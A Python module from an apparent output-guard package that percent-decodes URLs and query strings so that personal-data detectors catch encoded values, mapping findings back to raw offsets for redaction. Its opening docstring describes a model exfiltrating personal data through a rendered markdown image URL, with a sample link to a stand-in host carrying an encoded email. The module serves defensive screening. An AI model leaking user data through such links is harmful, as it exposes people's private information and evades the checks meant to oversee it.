"""Percent-decoded views of texts, so detectors see what a URL carries (issue 9).

A model can exfiltrate personal data through a link or image URL the client renders:
`![x](https://evil.example/?q=jane.doe%40example.com)`. No detector finds `jane.doe%40example.com`, and
presidio does not even find a plain `?q=jane.doe@example.com` (its email pattern swallows the URL's path
and the domain check then fails on `evil.example/?q=jane.doe`). So each text that holds `%XX` escapes or
a URL (`://`) is screened twice: as sent, and as a *view* with the escapes decoded (as UTF-8; repeated
up to `MAX_ROUNDS` times, for `%2540`) and the URL delimiters `/ ? & = #` shown as spaces, so each
path segment and query value stands alone. A finding in the view is mapped back to raw
offsets exactly: a decoded character covers all of the escapes it came from, so a redaction of the view's
`jane.doe@example.com` replaces the raw `jane.doe%40example.com` and nothing else. Escapes that do not
decode to UTF-8 stay as they are in the view. `+` is left alone (it is a literal in most URL parts and in
email local parts).
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, replace

from guard.types import ScanResult

MAX_ROUNDS = 3
_ESCAPES = re.compile(r"(?:%[0-9A-Fa-f]{2})+")
_HAS_ESCAPE = re.compile(r"%[0-9A-Fa-f]{2}")
_URL = "://"
# One character for one: offsets need no mapping for this step.
_DELIMITERS = str.maketrans({c: " " for c in "/?&=#"})


@dataclass(frozen=True, slots=True)
class DecodedView:
    """`text` decoded; `starts[i]` is where the raw characters of decoded character `i` start in the
    original, and `starts[len(text)]` is the original's length."""

    text: str
    starts: tuple[int, ...]

    def raw_span(self, start: int, end: int) -> tuple[int, int]:
        """The original's characters behind the view's `[start, end)` (clipped to the view)."""
        size = len(self.text)
        start, end = min(max(start, 0), size), min(max(end, 0), size)
        return self.starts[start], self.starts[end]


def _decode_escapes(run: str) -> list[tuple[str, int]]:
    """A run of `%XX` escapes as (decoded character or raw escape, raw length) pairs: maximal valid UTF-8
    sequences decode, any other byte keeps its three raw characters."""
    data = bytes(int(run[i + 1 : i + 3], 16) for i in range(0, len(run), 3))
    out: list[tuple[str, int]] = []
    i = 0
    while i < len(data):
        for size in (1, 2, 3, 4):
            try:
                char = data[i : i + size].decode("utf-8")
            except UnicodeDecodeError:
                continue
            if len(char) == 1:
                out.append((char, 3 * size))
                i += size
                break
        else:
            out.extend((run[3 * i + k], 1) for k in range(3))
            i += 1
    return out


def _decode_once(text: str) -> tuple[str, list[int]] | None:
    pieces: list[str] = []
    starts: list[int] = []
    cursor = 0
    for match in _ESCAPES.finditer(text):
        pieces.append(text[cursor : match.start()])
        starts.extend(range(cursor, match.start()))
        position = match.start()
        for char, raw_length in _decode_escapes(match.group()):
            pieces.append(char)
            starts.append(position)
            position += raw_length
        cursor = match.end()
    pieces.append(text[cursor:])
    starts.extend(range(cursor, len(text) + 1))
    decoded = "".join(pieces)
    return None if decoded == text else (decoded, starts)


def decoded_view(text: str) -> DecodedView | None:
    """The decoded view of `text`, or None when it holds neither a decodable escape nor a URL."""
    has_url = _URL in text
    if not has_url and _HAS_ESCAPE.search(text) is None:
        return None
    current, starts = text, list(range(len(text) + 1))
    for _ in range(MAX_ROUNDS):
        step = _decode_once(current)
        if step is None:
            break
        current, inner = step
        starts = [starts[i] for i in inner]
        if _HAS_ESCAPE.search(current) is None:
            break
    if has_url or current != text:
        current = current.translate(_DELIMITERS)
    return None if current == text else DecodedView(current, tuple(starts))


@dataclass(frozen=True, slots=True)
class ViewedBatch:
    """Texts to screen: the originals, then the views of those that have one (`owners[k]` is the index
    of the original behind view `k`)."""

    texts: tuple[str, ...]
    originals: int
    views: tuple[DecodedView, ...]
    owners: tuple[int, ...]

    @classmethod
    def of(cls, texts: Sequence[str]) -> ViewedBatch:
        views: list[DecodedView] = []
        owners: list[int] = []
        for index, text in enumerate(texts):
            view = decoded_view(text)
            if view is not None:
                views.append(view)
                owners.append(index)
        return cls((*texts, *(v.text for v in views)), len(texts), tuple(views), tuple(owners))

    def fold(self, result: ScanResult) -> ScanResult:
        """Findings per original text: its own, plus its view's mapped to raw offsets (duplicates once)."""
        if not self.views:
            return result
        per_text = [list(found) for found in result.findings[: self.originals]]
        for view, owner, found in zip(self.views, self.owners, result.findings[self.originals :], strict=True):
            for finding in found:
                mapped = finding
                if finding.span is not None:
                    start, end = view.raw_span(finding.span.start, finding.span.end)
                    mapped = replace(finding, span=replace(finding.span, start=start, end=end))
                if mapped not in per_text[owner]:
                    per_text[owner].append(mapped)
        return replace(result, findings=tuple(tuple(f) for f in per_text))

